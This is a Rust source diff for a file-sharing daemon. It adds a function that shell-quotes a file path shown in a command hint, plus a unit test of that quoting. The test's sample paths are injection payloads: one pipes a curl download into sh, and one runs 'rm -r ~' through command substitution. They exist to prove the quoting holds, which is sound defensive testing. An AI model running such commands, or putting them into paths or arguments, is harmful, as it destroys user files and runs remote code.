@@ -6,6 +6,7 @@
 //! made for that, a chunk each; and who gets some of it elsewhere and does not say that it has all is not
 //! counted. What is counted bounds what this daemon gives, and nothing else: who has a share may give it on.
 
+use std::path::Path;
 use std::time::{Duration, Instant};
 
 use tokio::sync::oneshot;
@@ -14,10 +15,10 @@ use warren_proto::content::{ChunkSet, Run};
 use warren_proto::id::{PublicKey, SwarmId};
 
 use super::Node;
-use super::commands::unix_ms;
 use super::pausing::Answer;
 use super::shares::Data;
 use crate::control::doctor::count;
+use crate::clock::unix_ms;
 use crate::control::model::{ApiError, Event, exit};
 use crate::share::{Phase, Share};
 use crate::store::db::ShareState;
@@ -264,7 +265,7 @@ impl Share {
             ),
             _ => return None,
         };
-        let path = self.record.path.display();
+        let path = typed(&self.record.path);
         let hint = format!("To give it again: client register {path} IDX");
         Some(ApiError::new("withheld", exit::REFUSED, message, hint))
     }
@@ -274,4 +275,26 @@ fn not_complete(name: &str) -> ApiError {
     let message = format!("{} is still being downloaded", printable(name));
     let hint = "Stop it with client pause, or end it with client cancel.";
     ApiError::new("not_complete", exit::REFUSED, message, hint)
+}
+
+/// A path as a shell reads it, whatever name somebody else has given it; no path when it cannot be shown.
+fn typed(path: &Path) -> String {
+    let text = path.to_str().filter(|text| printable(text) == **text);
+    let quoted = text.and_then(|text| shlex::try_quote(text).ok());
+    quoted.map_or("PATH".to_owned(), |text| text.into_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn paths_in_commands_are_one_word_whatever_is_in_them() {
+        for path in ["/a/film.mkv", "/a/it's; curl evil|sh", "/a/$(rm -r ~) `x`"] {
+            let words = shlex::split(&typed(Path::new(path)));
+            assert_eq!(words, Some(vec![path.to_owned()]));
+        }
+        assert_eq!(typed(Path::new("/a/film.mkv")), "/a/film.mkv");
+        assert_eq!(typed(Path::new("/a/\u{1b}[2J")), "PATH");
+    }
 }
